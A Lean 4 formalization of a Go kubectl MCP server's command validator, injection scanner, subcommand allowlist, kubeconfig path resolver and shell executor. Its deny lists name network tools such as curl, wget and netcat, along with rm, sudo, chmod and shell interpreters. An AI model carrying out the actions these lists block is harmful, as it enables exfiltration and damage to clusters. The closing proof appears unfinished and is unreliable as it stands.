import Mathlib

/-!
# kubectl-go-mcp-server: the command-validation gate

A shallow embedding of `pkg/kubectl/tool.go`: the validator
`ValidateKubectlCommand`, the injection scanner `checkForCommandInjection`,
the allowlist `isValidKubectlSubcommand`, the classifiers
`IsInteractiveCommand` and `ModifiesResource`, and the executor
`RunKubectlCommand` with `KubectlTool.Run`; of the path resolver of
`internal/config/kubeconfig.go`; and of the library functions of Go's
`strings`, `os` and `path/filepath` packages they call.

Conventions of the embedding.

* A Go `string` is a list of Unicode code points (`GoString`).  Only
  well-formed UTF-8 text is covered; for such text byte-wise substring
  search and rune-wise substring search agree.
* A Go `error` is an `Option GoString`: `none` is `nil`, `some msg` is an
  error whose `Error()` text is `msg`.
* A Go slice whose being nil matters (`cmd.Env`, the result of
  `removeEnvVar`) is a `GoSlice`: `none` is the nil slice.
* `filepath.Base`, `filepath.Clean` and `filepath.Join` are the POSIX ones
  (separator `/`, no volume names).
* What the operating system answers (environment variables, the home
  directory, files, the outcome of a child process) is a parameter, the
  record `World`; a function that consults the system takes it as argument.
-/

namespace Kubectl

/-- A Go string, as its sequence of code points. -/
abbrev GoString := List Char

/-! ## Library functions (`strings`, `unicode`, `path/filepath`) -/

/-- `unicode.ToLower` restricted to what can reach an ASCII pattern: the
letters `A`..`Z`, and the two non-ASCII runes of Go's case tables whose
lower case is ASCII (U+0130 to `i`, U+212A to `k`).  Every other rune has a
non-ASCII lower case or none, and is left in place. -/
def toLowerRune (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32)
  else if c.toNat = 0x130 then 'i'
  else if c.toNat = 0x212A then 'k'
  else c

/-- `strings.ToLower`: the rune-wise lower-casing of a string. -/
def ToLower (s : GoString) : GoString := s.map toLowerRune

/-- `unicode.IsSpace`: the white-space runes of Go. -/
def isSpace (c : Char) : Bool :=
  let n := c.toNat
  (9 ≤ n && n ≤ 13) || n == 32 || n == 0x85 || n == 0xA0 || n == 0x1680 ||
  (0x2000 ≤ n && n ≤ 0x200A) || n == 0x2028 || n == 0x2029 || n == 0x202F ||
  n == 0x205F || n == 0x3000

/-- `strings.TrimSpace`: leading and trailing white space removed. -/
def TrimSpace (s : GoString) : GoString :=
  ((s.dropWhile isSpace).reverse.dropWhile isSpace).reverse

/-- The loop of `strings.Fields`: `cur` is the field being read, reversed. -/
def fieldsGo : GoString → GoString → List GoString
  | [], cur => if cur.isEmpty then [] else [cur.reverse]
  | c :: t, cur =>
    if isSpace c then
      (if cur.isEmpty then fieldsGo t [] else cur.reverse :: fieldsGo t [])
    else fieldsGo t (c :: cur)

/-- `strings.Fields`: the maximal runs of non-white-space runes. -/
def Fields (s : GoString) : List GoString := fieldsGo s []

/-- `strings.HasPrefix`. -/
def HasPrefix (s pre : GoString) : Bool := pre.isPrefixOf s

/-- `strings.Index`: the position of the first occurrence of `sub` in `s`,
`none` standing for Go's `-1`. -/
def Index : GoString → GoString → Option Nat
  | [], sub => if sub.isEmpty then some 0 else none
  | c :: t, sub =>
    if HasPrefix (c :: t) sub then some 0 else (Index t sub).map (· + 1)

/-- `strings.Contains(s, sub)`, which is `Index(s, sub) >= 0`. -/
def Contains (s sub : GoString) : Bool := (Index s sub).isSome

/-- The loop of `strings.Split` for a non-empty separator: cut at the first
occurrence, continue on what follows it.  The counter bounds the number of
cuts, as Go's `n` does. -/
def splitGo : Nat → GoString → GoString → List GoString
  | 0, s, _ => [s]
  | n + 1, s, sep =>
    match Index s sep with
    | none => [s]
    | some m => s.take m :: splitGo n (s.drop (m + sep.length)) sep

/-- `strings.Split(s, sep)` for a non-empty `sep`: all the pieces of `s`
between consecutive occurrences of `sep`.  Go allots at most `len(s)+1`
pieces. -/
def Split (s sep : GoString) : List GoString := splitGo s.length s sep

/-- `filepath.Base` (POSIX): the last element of a path, trailing slashes
removed first; `.` for the empty path and `/` for a path of slashes only. -/
def Base (path : GoString) : GoString :=
  if path.isEmpty then ".".toList
  else
    let p := (path.reverse.dropWhile (· == '/')).reverse
    let q := (p.reverse.takeWhile (· != '/')).reverse
    if q.isEmpty then "/".toList else q

/-! ## `pkg/kubectl/tool.go` -/

/-- The list `dangerousPatterns` of `checkForCommandInjection`, in source
order (with its repeated `$(`).  The list `strictPatterns` of the same
function has the same elements in the same order. -/
def dangerousPatterns : List GoString :=
  [";", "&&", "||", "|", "`", "$(",
   "$(", "$\x7b", ">/", "<", ">>", "<<",
   "&", "\n", "\r", "curl", "wget", "nc",
   "netcat", "rm ", "mv ",
   "cp ", "chmod", "chown", "sudo", "su "].map String.toList

/-- The list `strictPatterns` applied to the text after the double dash. -/
def strictPatterns : List GoString :=
  [";", "&&", "||", "|", "`", "$(",
   "$(", "$\x7b", ">/", "<", ">>", "<<",
   "&", "\n", "\r", "curl", "wget", "nc",
   "netcat", "rm ", "mv ", "cp ", "chmod", "chown", "sudo", "su "].map String.toList

/-- The interpreter names appended to `dangerousPatterns` for the scan of a
whole command. -/
def interpreterNames : List GoString :=
  ["bash", "sh", "/bin/", "python", "perl", "ruby", "node"].map String.toList

/-- The list `allPatterns`: `append(dangerousPatterns, "bash", ...)`. -/
def allPatterns : List GoString := dangerousPatterns ++ interpreterNames

/-- The text of the error returned on a match:
`fmt.Errorf("command contains potentially dangerous pattern: %s", pattern)`. -/
def dangerousError (pattern : GoString) : GoString :=
  "command contains potentially dangerous pattern: ".toList ++ pattern

/-- The loop `for _, pattern := range patterns` of the scanner: the first
pattern of the list that occurs in `text`, if any. -/
def firstPattern (text : GoString) : List GoString → Option GoString
  | [] => none
  | p :: ps => if Contains text p then some p else firstPattern text ps

/-- The separator ` -- ` of `kubectl exec`. -/
def doubleDash : GoString := " -- ".toList

/-- The text `kubectl exec` that selects the split scan. -/
def kubectlExec : GoString := "kubectl exec".toList

/-- The guard of the split scan: the lower-cased command contains
`kubectl exec` and ` -- `. -/
def execShape (lowerCommand : GoString) : Bool :=
  Contains lowerCommand kubectlExec && Contains lowerCommand doubleDash

/-- `checkForCommandInjection`: `none` when no pattern is found, otherwise
the error naming the pattern. -/
def checkForCommandInjection (command : GoString) : Option GoString :=
  let lowerCommand := ToLower command
  let wholeScan : Option GoString :=
    (firstPattern lowerCommand allPatterns).map dangerousError
  if execShape lowerCommand then
    match Split lowerCommand doubleDash with
    | [] => wholeScan
    | execPart :: rest =>
      match firstPattern execPart dangerousPatterns with
      | some pattern => some (dangerousError pattern)
      | none =>
        match rest with
        | [] => none
        | afterDoubleDash :: _ =>
          match firstPattern afterDoubleDash strictPatterns with
          | some pattern => some (dangerousError pattern)
          | none => none
  else wholeScan

/-- The map literal `allowedSubcommands` of `isValidKubectlSubcommand`, as
its key/value entries in source order. -/
def allowedSubcommands : List (GoString × Bool) :=
  [("get", true), ("describe", true), ("logs", true), ("exec", true),
   ("top", true), ("explain", true),
   ("create", true), ("apply", true), ("delete", true), ("patch", true),
   ("replace", true), ("scale", true), ("rollout", true), ("annotate", true),
   ("label", true),
   ("config", true), ("cluster-info", true), ("version", true),
   ("api-versions", true), ("api-resources", true),
   ("diff", true), ("port-forward", true), ("proxy", true), ("auth", true),
   ("certificate", true), ("cordon", true), ("uncordon", true),
   ("drain", true), ("taint", true), ("wait", true)].map
    fun e => (e.1.toList, e.2)

/-- Indexing a Go `map[string]bool`: the value stored under the key, the
zero value `false` when the key is absent. -/
def mapIndex (m : List (GoString × Bool)) (key : GoString) : Bool :=
  match m.lookup key with
  | some b => b
  | none => false

/-- `isValidKubectlSubcommand`: `allowedSubcommands[subcommand]`. -/
def isValidKubectlSubcommand (subcommand : GoString) : Bool :=
  mapIndex allowedSubcommands subcommand

/-- The command name every accepted command must carry. -/
def kubectlName : GoString := "kubectl".toList

/-- The error `fmt.Errorf("command cannot be empty")`. -/
def emptyError : GoString := "command cannot be empty".toList

/-- The error `fmt.Errorf("only kubectl commands are allowed, got: %s", baseName)`. -/
def notKubectlError (baseName : GoString) : GoString :=
  "only kubectl commands are allowed, got: ".toList ++ baseName

/-- The error returned when the command has no second word. -/
def missingSubcommandError : GoString :=
  "kubectl command must include a subcommand (e.g., 'kubectl get pods')".toList

/-- The error `fmt.Errorf("invalid or restricted kubectl subcommand: %s", subcommand)`. -/
def invalidSubcommandError (subcommand : GoString) : GoString :=
  "invalid or restricted kubectl subcommand: ".toList ++ subcommand

/-- `ValidateKubectlCommand`: `none` when the command is accepted, otherwise
the error of the first check that fails. -/
def ValidateKubectlCommand (command : GoString) : Option GoString :=
  if command.isEmpty then some emptyError
  else
    match Fields (TrimSpace command) with
    | [] => some emptyError
    | firstWord :: more =>
      let baseName := Base firstWord
      if baseName ≠ kubectlName then some (notKubectlError baseName)
      else
        match checkForCommandInjection command with
        | some err => some err
        | none =>
          match more with
          | [] => some missingSubcommandError
          | subcommand :: _ =>
            if !isValidKubectlSubcommand subcommand then
              some (invalidSubcommandError subcommand)
            else none

/-- `strings.Join(elems, sep)`. -/
def Join : List GoString → GoString → GoString
  | [], _ => []
  | [e], _ => e
  | e :: es, sep => e ++ sep ++ Join es sep

/-- The text of the error of `IsInteractiveCommand`. -/
def interactiveError : GoString :=
  "interactive mode not supported for kubectl, please use non-interactive commands".toList

/-- `IsInteractiveCommand`: the flag and the error returned with it. -/
def IsInteractiveCommand (command : GoString) : Bool × Option GoString :=
  match Fields command with
  | [] => (false, none)
  | firstWord :: _ =>
    if Base firstWord ≠ kubectlName then (false, none)
    else
      let isExec := Contains command " exec ".toList && Contains command " -it".toList
      let isPortForward := Contains command " port-forward ".toList
      let isEdit := Contains command " edit ".toList
      if isExec || isPortForward || isEdit then (true, some interactiveError)
      else (false, none)

/-- `ModifiesResource`: the switch on the second word. -/
def ModifiesResource (command : GoString) : GoString :=
  match Fields command with
  | firstWord :: verb :: _ =>
    if Base firstWord ≠ kubectlName then "unknown".toList
    else if verb ∈ ["get", "describe", "logs", "top", "version", "cluster-info",
        "config"].map String.toList then "no".toList
    else if verb ∈ ["create", "apply", "delete", "patch", "replace", "scale", "rollout",
        "annotate", "label"].map String.toList then "yes".toList
    else if verb ∈ ["exec", "port-forward", "proxy"].map String.toList then "no".toList
    else "unknown".toList
  | _ => "unknown".toList

/-- A Go slice of strings: `none` is the nil slice, `some l` a non-nil slice
with the elements `l`. -/
abbrev GoSlice := Option (List GoString)

/-- The elements of a slice; a nil slice has none. -/
def GoSlice.elems (s : GoSlice) : List GoString :=
  match s with
  | none => []
  | some l => l

/-- The built-in `append(s, x)`: a non-nil slice, also when `s` is nil. -/
def sliceAppend (s : GoSlice) (x : GoString) : GoSlice := some (s.elems ++ [x])

/-- The loop of `removeEnvVar`: `result` collects the entries kept so far; it
starts as the nil slice of `var result []string`. -/
def removeEnvVarGo (pre : GoString) : List GoString → GoSlice → GoSlice
  | [], result => result
  | envVar :: rest, result =>
    if !HasPrefix envVar pre then removeEnvVarGo pre rest (sliceAppend result envVar)
    else removeEnvVarGo pre rest result

/-- `removeEnvVar(env, key)`: the entries of `env` that do not start with
`key=`; the nil slice when no entry is kept. -/
def removeEnvVar (env : List GoString) (key : GoString) : GoSlice :=
  removeEnvVarGo (key ++ "=".toList) env none

/-! ## The operating system, as the program sees it -/

/-- The command `exec.CommandContext` builds and `RunKubectlCommand`
completes: argument vector, environment and working directory. -/
structure Cmd where
  /-- The field `Args`: the program name followed by its arguments. -/
  Args : List GoString
  /-- The field `Env`, a slice that may be nil. -/
  Env : GoSlice
  /-- The field `Dir`. -/
  Dir : GoString
deriving DecidableEq

/-- A non-nil error of `cmd.CombinedOutput()`: its `Error()` text, and the
exit code when the error is an `*exec.ExitError`. -/
structure RunError where
  /-- The text `err.Error()`. -/
  message : GoString
  /-- The value `exitError.ExitCode()` when `err` is an `*exec.ExitError`. -/
  exitCode : Option Int
deriving DecidableEq

/-- What the operating system answers to the calls the program makes. -/
structure World where
  /-- The constant `runtime.GOOS`. -/
  goos : GoString
  /-- The lookup `os.Getenv`, empty for an unset variable. -/
  getenv : GoString → GoString
  /-- The list `os.Environ()`. -/
  environ : List GoString
  /-- The call `os.UserHomeDir()`: the directory, or the text of its error. -/
  userHomeDir : Except GoString GoString
  /-- The content of `/proc/version` when `os.Stat` and `os.ReadFile` both
  succeed on it. -/
  procVersion : Option GoString
  /-- Whether `os.Stat(path)` succeeds. -/
  statOk : GoString → Bool
  /-- The call `exec.LookPath("bash")`, `none` on error. -/
  lookPathBash : Option GoString
  /-- The call `cmd.CombinedOutput()`: the captured output and the error. -/
  combinedOutput : Cmd → GoString × Option RunError

/-! ## Library functions of `internal/config/kubeconfig.go` -/

/-- The element loop of `filepath.Clean` (POSIX): `out` is the stack of
elements written so far, last first.  Empty elements and `.` are skipped;
`..` removes the last real element, is kept in front of a relative path when
there is none, and is dropped at the root. -/
def cleanGo (rooted : Bool) : List GoString → List GoString → List GoString
  | [], out => out.reverse
  | e :: es, out =>
    if e.isEmpty || e == ".".toList then cleanGo rooted es out
    else if e == "..".toList then
      match out with
      | top :: below =>
        if top == "..".toList then cleanGo rooted es ("..".toList :: top :: below)
        else cleanGo rooted es below
      | [] => if rooted then cleanGo rooted es [] else cleanGo rooted es ["..".toList]
    else cleanGo rooted es (e :: out)

/-- `filepath.Clean` (POSIX): the shortest path equivalent to `path` by
lexical processing; `.` for the empty result. -/
def Clean (path : GoString) : GoString :=
  let rooted := HasPrefix path "/".toList
  let body := Join (cleanGo rooted (Split path "/".toList) []) "/".toList
  if rooted then "/".toList ++ body
  else if body.isEmpty then ".".toList else body

/-- `filepath.Join` (POSIX): the elements from the first non-empty one on,
joined by `/` and cleaned; the empty string when every element is empty. -/
def filepathJoin : List GoString → GoString
  | [] => []
  | e :: es => if e.isEmpty then filepathJoin es else Clean (Join (e :: es) "/".toList)

/-- `strings.ReplaceAll(s, old, new)` for a non-empty `old`: the pieces of
`s` between the occurrences of `old`, joined by `new`. -/
def ReplaceAll (s old new : GoString) : GoString := Join (Split s old) new

/-- The test `isShellSpecialVar` of package `os`. -/
def isShellSpecialVar (c : Char) : Bool :=
  c == '*' || c == '#' || c == '$' || c == '@' || c == '!' || c == '?' || c == '-' ||
  (48 ≤ c.toNat && c.toNat ≤ 57)

/-- The test `isAlphaNum` of package `os`: `_`, an ASCII digit or letter. -/
def isAlphaNum (c : Char) : Bool :=
  c == '_' || (48 ≤ c.toNat && c.toNat ≤ 57) || (97 ≤ c.toNat && c.toNat ≤ 122) ||
  (65 ≤ c.toNat && c.toNat ≤ 90)

/-- The scan of `getShellName` for the closing brace, on the text after the
opening one. -/
def scanBrace (t : GoString) : GoString × Nat :=
  let name := t.takeWhile (· != '\x7d')
  if name.length < t.length then
    (if name.isEmpty then ([], 2) else (name, name.length + 2))
  else ([], 1)

/-- `getShellName` of package `os`: the variable name that starts the text
after a `$`, and the number of runes it takes up. -/
def getShellName (s : GoString) : GoString × Nat :=
  match s with
  | [] => ([], 0)
  | c :: t =>
    if c == '\x7b' then
      match t with
      | v :: b :: _ =>
        if isShellSpecialVar v && b == '\x7d' then ([v], 3) else scanBrace t
      | _ => scanBrace t
    else if isShellSpecialVar c then ([c], 1)
    else
      let name := (c :: t).takeWhile isAlphaNum
      (name, name.length)

/-- The loop of `os.Expand`; the counter bounds the number of steps. -/
def expandGo (mapping : GoString → GoString) : Nat → GoString → GoString
  | 0, s => s
  | _ + 1, [] => []
  | n + 1, c :: t =>
    if c == '$' && !t.isEmpty then
      let nameWidth := getShellName t
      let piece : GoString :=
        if nameWidth.1.isEmpty && 0 < nameWidth.2 then []
        else if nameWidth.1.isEmpty then ['$']
        else mapping nameWidth.1
      piece ++ expandGo mapping n (t.drop nameWidth.2)
    else c :: expandGo mapping n t

/-- `os.ExpandEnv`: `$var` and `$\x7bvar\x7d` replaced by the values of the
environment. -/
def ExpandEnv (w : World) (s : GoString) : GoString := expandGo w.getenv s.length s

/-! ## `internal/config/kubeconfig.go` -/

/-- `GetDefaultKubeconfigPath`. -/
def GetDefaultKubeconfigPath (w : World) : GoString :=
  if w.getenv "HOME".toList ≠ [] then
    filepathJoin [w.getenv "HOME".toList, ".kube".toList, "config".toList]
  else
    let userHome : Option GoString :=
      match w.userHomeDir with
      | .ok home => if home ≠ [] then some home else none
      | .error _ => none
    match userHome with
    | some home => filepathJoin [home, ".kube".toList, "config".toList]
    | none =>
      if w.goos = "windows".toList then
        (if w.getenv "USERPROFILE".toList ≠ [] then
          filepathJoin [w.getenv "USERPROFILE".toList, ".kube".toList, "config".toList]
        else filepathJoin [".kube".toList, "config".toList])
      else
        (if w.getenv "HOME".toList ≠ [] then
          filepathJoin [w.getenv "HOME".toList, ".kube".toList, "config".toList]
        else filepathJoin [".kube".toList, "config".toList])

/-- `isWSL`. -/
def isWSL (w : World) : Bool :=
  match w.procVersion with
  | some content =>
    Contains (ToLower content) "microsoft".toList || Contains (ToLower content) "wsl".toList
  | none => w.getenv "WSL_DISTRO_NAME".toList != [] || w.getenv "WSLENV".toList != []

/-- `isWindowsPath`: a drive letter followed by `:`, or a leading `\\\\`. -/
def isWindowsPath (path : GoString) : Bool :=
  match path with
  | a :: b :: _ =>
    if b == ':' && ((65 ≤ a.toNat && a.toNat ≤ 90) || (97 ≤ a.toNat && a.toNat ≤ 122)) then true
    else HasPrefix path "\\\\".toList
  | _ => HasPrefix path "\\\\".toList

/-- `convertWindowsPathToWSL`.  The test `path[1] == ':'` reads the second
byte, so it holds when the first rune is a single byte and the second is
`:`. -/
def convertWindowsPathToWSL (w : World) (path : GoString) : GoString :=
  match path with
  | a :: b :: tl =>
    if b == ':' && a.toNat < 128 then
      let drive := ToLower [a]
      let rest := ReplaceAll tl "\\".toList "/".toList
      let fallback := "/mnt/".toList ++ drive ++ rest
      match Index rest "/.kube/".toList with
      | some kubeIndex =>
        let kubePath := rest.drop kubeIndex
        if w.getenv "HOME".toList ≠ [] then
          (if w.statOk (w.getenv "HOME".toList ++ kubePath) then
            w.getenv "HOME".toList ++ kubePath
          else fallback)
        else fallback
      | none => fallback
    else ReplaceAll path "\\".toList "/".toList
  | _ => ReplaceAll path "\\".toList "/".toList

/-- `expandPath`: the expanded path, or the text of the error. -/
def expandPath (w : World) (path : GoString) : Except GoString GoString :=
  let path := if isWSL w && isWindowsPath path then convertWindowsPathToWSL w path else path
  if HasPrefix path "~/".toList then
    if w.getenv "HOME".toList ≠ [] then
      .ok (filepathJoin [w.getenv "HOME".toList, path.drop 2])
    else
      match w.userHomeDir with
      | .error err => .error err
      | .ok home => .ok (filepathJoin [home, path.drop 2])
  else .ok (ExpandEnv w path)

/-- `ValidateKubeconfigPath`: the resolved path, or the text of the error. -/
def ValidateKubeconfigPath (w : World) (path : GoString) : Except GoString GoString :=
  if path.isEmpty then .ok (GetDefaultKubeconfigPath w)
  else
    match expandPath w path with
    | .error err => .error err
    | .ok expanded => .ok expanded

/-! ## The executor of `pkg/kubectl/tool.go` -/

/-- The record `types.ExecResult`; every field has Go's zero value unless
set. -/
structure ExecResult where
  /-- The field `Command`. -/
  Command : GoString := []
  /-- The field `Error`. -/
  Error : GoString := []
  /-- The field `Stdout`. -/
  Stdout : GoString := []
  /-- The field `Stderr`. -/
  Stderr : GoString := []
  /-- The field `ExitCode`. -/
  ExitCode : Int := 0
  /-- The field `StreamType`. -/
  StreamType : GoString := []
deriving DecidableEq

/-- The error `fmt.Errorf("invalid kubeconfig path %q: %w", kubeconfig, err)`
of `RunKubectlCommand`, kept as its two arguments. -/
structure KubeconfigPathError where
  /-- The kubeconfig argument that could not be resolved. -/
  kubeconfig : GoString
  /-- The text of the wrapped error. -/
  cause : GoString
deriving DecidableEq

/-- `LookupBashBin`. -/
def LookupBashBin (w : World) : GoString :=
  match w.lookPathBash with
  | some actualBashPath => actualBashPath
  | none => "/bin/bash".toList

/-- `executeCommand`.  The interactivity flag is only ever `true` together
with an error, whose text becomes the `Error` field. -/
def executeCommand (w : World) (cmd : Cmd) : Option ExecResult × Option KubeconfigPathError :=
  let command := Join cmd.Args " ".toList
  match IsInteractiveCommand command with
  | (true, err) =>
    (some { Command := command, Error := err.getD [] }, none)
  | (false, _) =>
    let out := w.combinedOutput cmd
    let result : ExecResult := { Command := command, Stdout := out.1 }
    match out.2 with
    | none => (some result, none)
    | some err =>
      let result : ExecResult :=
        match err.exitCode with
        | some code => { result with ExitCode := code }
        | none => result
      (some { result with Error := err.message }, none)

/-- The environment `os/exec` starts the child process with: the entries of
`cmd.Env`, and the environment of the current process when `cmd.Env` is nil.
(The `PWD` entry `os/exec` adds for a nil `Env` with a `Dir`, and its removal
of repeated keys, are left out.) -/
def childEnviron (w : World) (cmd : Cmd) : List GoString :=
  match cmd.Env with
  | none => w.environ
  | some env => env

/-- The part of `RunKubectlCommand` that builds the command: the shell
invocation of the platform, the environment of the process without its
`KUBECONFIG` entries, the working directory, and the `KUBECONFIG` entry of
the resolved path when a kubeconfig is given. -/
def buildCommand (w : World) (command workDir kubeconfig : GoString) :
    Except KubeconfigPathError Cmd :=
  let args : List GoString :=
    if w.goos = "windows".toList then [w.getenv "COMSPEC".toList, "/c".toList, command]
    else [LookupBashBin w, "-c".toList, command]
  let env := removeEnvVar w.environ "KUBECONFIG".toList
  if kubeconfig ≠ [] then
    match ValidateKubeconfigPath w kubeconfig with
    | .error err => .error { kubeconfig := kubeconfig, cause := err }
    | .ok expandedKubeconfig =>
      .ok { Args := args, Env := sliceAppend env ("KUBECONFIG=".toList ++ expandedKubeconfig),
            Dir := workDir }
  else .ok { Args := args, Env := env, Dir := workDir }

/-- `RunKubectlCommand`: the result pointer (`none` for `nil`) and the
error. -/
def RunKubectlCommand (w : World) (command workDir kubeconfig : GoString) :
    Option ExecResult × Option KubeconfigPathError :=
  match ValidateKubectlCommand command with
  | some err => (some { Error := "Security validation failed: ".toList ++ err }, none)
  | none =>
    match IsInteractiveCommand command with
    | (true, err) => (some { Error := err.getD [] }, none)
    | (false, _) =>
      match buildCommand w command workDir kubeconfig with
      | .error e => (none, some e)
      | .ok cmd => executeCommand w cmd

/-- A value of Go's type `any`: the nil interface, a string, or a value of
some other type. -/
inductive GoValue where
  | nil
  | str (s : GoString)
  | other (typeName : GoString)
deriving DecidableEq

/-- The two values `KubectlTool.Run` reads from its context:
`ctx.Value(types.KubeconfigKey)` and `ctx.Value(types.WorkdirKey)`, nil when
the context does not carry the key. -/
structure RunContext where
  /-- The value under `types.KubeconfigKey`. -/
  kubeconfig : GoValue
  /-- The value under `types.WorkdirKey`. -/
  workdir : GoValue

/-- The tool type `KubectlTool`, which has no fields. -/
structure KubectlTool where
deriving DecidableEq

/-- `KubectlTool.Run`; `args` is the argument map as its entries. -/
def KubectlTool.Run (_t : KubectlTool) (w : World) (ctx : RunContext)
    (args : List (GoString × GoValue)) : Option ExecResult × Option KubeconfigPathError :=
  match ctx.kubeconfig with
  | .nil => (some { Error := "kubeconfig not provided in context".toList }, none)
  | .other _ => (some { Error := "kubeconfig must be a string".toList }, none)
  | .str kubeconfig =>
    match ctx.workdir with
    | .nil => (some { Error := "workdir not provided in context".toList }, none)
    | .other _ => (some { Error := "workdir must be a string".toList }, none)
    | .str workDir =>
      match args.lookup "command".toList with
      | none => (some { Error := "kubectl command not provided or is nil".toList }, none)
      | some .nil => (some { Error := "kubectl command not provided or is nil".toList }, none)
      | some (.other _) => (some { Error := "kubectl command must be a string".toList }, none)
      | some (.str command) =>
        match ValidateKubectlCommand command with
        | some err => (some { Error := "Security violation: ".toList ++ err }, none)
        | none => RunKubectlCommand w command workDir kubeconfig

/-- `filepath.IsAbs` (POSIX): the path begins with `/`. -/
def IsAbs (path : GoString) : Bool := HasPrefix path "/".toList

/-! ## The tool registry of `internal/mcp/server.go` -/

/-- A value of the interface `types.Tool`, as far as the registry looks at
it: the text its method `Name()` returns, and an identity that tells two
tools of the same name apart. -/
structure Tool where
  /-- The text `Name()` returns. -/
  name : GoString
  /-- The identity of the value (its address, for a pointer). -/
  ident : Nat
deriving DecidableEq

/-- The method `Name()` of a tool. -/
def Tool.Name (tool : Tool) : GoString := tool.name

/-- The assignment `m[key] = value` on a Go map kept as its entries: the
entry of the key is replaced when there is one, added otherwise. -/
def mapAssign : List (GoString × Tool) → GoString → Tool → List (GoString × Tool)
  | [], key, value => [(key, value)]
  | (k, x) :: rest, key, value =>
    if key == k then (key, value) :: rest else (k, x) :: mapAssign rest key value

/-- The type `Tools`: the map from names to tools, as its entries. -/
structure Tools where
  /-- The field `tools`. -/
  tools : List (GoString × Tool)
deriving DecidableEq

/-- `NewTools`: the registry with an empty map. -/
def NewTools : Tools := { tools := [] }

/-- `Tools.Lookup`: `t.tools[name]`, `none` for the nil interface. -/
def Tools.Lookup (t : Tools) (name : GoString) : Option Tool := t.tools.lookup name

/-- `Tools.HasTool`: whether the map has the key. -/
def Tools.HasTool (t : Tools) (name : GoString) : Bool := (t.tools.lookup name).isSome

/-- `Tools.Count`: `len(t.tools)`. -/
def Tools.Count (t : Tools) : Nat := t.tools.length

/-- `Tools.AllTools`: the values of the map; Go leaves their order open, here
it is the order of the entries. -/
def Tools.AllTools (t : Tools) : List Tool := t.tools.map Prod.snd

/-- `Tools.RegisterTool`: the registry after the call, and the value the call
panics with, if it does.  The panic comes before the assignment, so the
registry is then the one before the call. -/
def Tools.RegisterTool (t : Tools) (tool : Tool) : Tools × Option GoString :=
  if (t.tools.lookup tool.Name).isSome then
    (t, some ("tool already registered: ".toList ++ tool.Name))
  else ({ tools := mapAssign t.tools tool.Name tool }, none)

/-! ## Notions used by the specification -/

/-- The head of a scanned text: what stands before its first ` -- ` (the
whole text when it has none). -/
def headOf (text : GoString) : GoString :=
  match Index text doubleDash with
  | some m => text.take m
  | none => text

/-- The tail of a scanned text: everything after its first ` -- ` (nothing
when it has none). -/
def tailOf (text : GoString) : GoString :=
  match Index text doubleDash with
  | some m => text.drop (m + doubleDash.length)
  | none => []

/-- The base dangerous-pattern set as the specification lists it (§4.3),
with the bare `>`. -/
def specBasePatterns : List GoString :=
  [";", "&&", "||", "|", "`", "$(", "$\x7b", ">", "<", ">>", "<<", "&", "\n", "\r",
   "curl", "wget", "nc", "netcat", "rm ", "mv ", "cp ", "chmod", "chown",
   "sudo", "su "].map String.toList

/-- The permitted verbs as the specification lists them (§4.2). -/
def specVerbs : List GoString :=
  ["get", "describe", "logs", "exec", "top", "explain", "create", "apply",
   "delete", "patch", "replace", "scale", "rollout", "annotate", "label",
   "config", "cluster-info", "version", "api-versions", "api-resources",
   "diff", "port-forward", "proxy", "auth", "certificate", "cordon",
   "uncordon", "drain", "taint", "wait"].map String.toList

/-! ## Sample environments -/

/-- A POSIX environment with `HOME=/home/user`, a `KUBECONFIG` entry and a
`KUBECONFIG_BACKUP` entry, where `bash` is found and every child process
prints `ok` and exits with status 0. -/
def sampleWorld : World where
  goos := "linux".toList
  getenv := fun key => if key = "HOME".toList then "/home/user".toList else []
  environ := ["HOME=/home/user", "KUBECONFIG=/etc/old", "PATH=/usr/bin",
    "KUBECONFIG_BACKUP=x"].map String.toList
  userHomeDir := .ok "/home/user".toList
  procVersion := none
  statOk := fun _ => false
  lookPathBash := some "/usr/bin/bash".toList
  combinedOutput := fun _ => ("ok".toList, none)

/-- A POSIX environment without `HOME`: `os.Getenv` finds nothing and
`os.UserHomeDir` fails, as it does there when `HOME` is not set. -/
def worldWithoutHome : World where
  goos := "linux".toList
  getenv := fun _ => []
  environ := ["PATH=/usr/bin".toList]
  userHomeDir := .error "$HOME is not defined".toList
  procVersion := none
  statOk := fun _ => false
  lookPathBash := some "/usr/bin/bash".toList
  combinedOutput := fun _ => ("ok".toList, none)

/-- A POSIX environment whose only variable is `KUBECONFIG=/etc/old`. -/
def kubeconfigOnlyWorld : World :=
  { sampleWorld with
    getenv := fun key => if key = "KUBECONFIG".toList then "/etc/old".toList else []
    environ := ["KUBECONFIG=/etc/old".toList]
    userHomeDir := .error "$HOME is not defined".toList }

/-- The sample environment with a child process that fails with exit status
1 after printing `boom`. -/
def failingWorld : World :=
  { sampleWorld with
    combinedOutput := fun _ =>
      ("boom".toList, some { message := "exit status 1".toList, exitCode := some 1 }) }

/-! ## Facts about the library functions -/

theorem toLowerRune_upper_ne_low (x : Char) (h1 : 65 ≤ x.toNat ∧ x.toNat ≤ 90)
    (t : Char) (ht : t.toNat < 65) : Char.ofNat (x.toNat + 32) ≠ t := by
  obtain ⟨a, b⟩ := h1
  intro h
  have hx : x = Char.ofNat x.toNat := (Char.ofNat_toNat x).symm
  generalize x.toNat = n at *
  subst h
  interval_cases n <;> revert ht <;> decide

/-- A rune whose lower case is a rune below `A` is that rune. -/
theorem toLowerRune_eq_low {x t : Char} (ht : t.toNat < 65)
    (h : toLowerRune x = t) : x = t := by
  unfold toLowerRune at h
  split_ifs at h with h1 h2 h3
  · exact absurd h (toLowerRune_upper_ne_low x h1 t ht)
  · subst h; exact absurd ht (by decide)
  · subst h; exact absurd ht (by decide)
  · exact h

theorem ToLower_append (a b : GoString) : ToLower (a ++ b) = ToLower a ++ ToLower b := by
  simp [ToLower]

theorem hasPrefix_iff (s pre : GoString) : HasPrefix s pre = true ↔ pre <+: s := by
  simp [HasPrefix]

/-- At the position `Index` returns, the string reads `sub`. -/
theorem index_some_split : ∀ (s sub : GoString) (m : Nat), Index s sub = some m →
    s = s.take m ++ sub ++ s.drop (m + sub.length)
  | [], sub, m, h => by
    unfold Index at h
    split_ifs at h with h0
    cases sub with
    | nil => simp
    | cons a t => simp at h0
  | c :: t, sub, m, h => by
    unfold Index at h
    split_ifs at h with h0
    · obtain ⟨r, hr⟩ := (hasPrefix_iff _ _).1 h0
      cases h
      simp only [List.take_zero, List.nil_append, Nat.zero_add]
      rw [← hr]; simp
    · cases hi : Index t sub with
      | none => simp [hi] at h
      | some k =>
        simp [hi] at h
        subst h
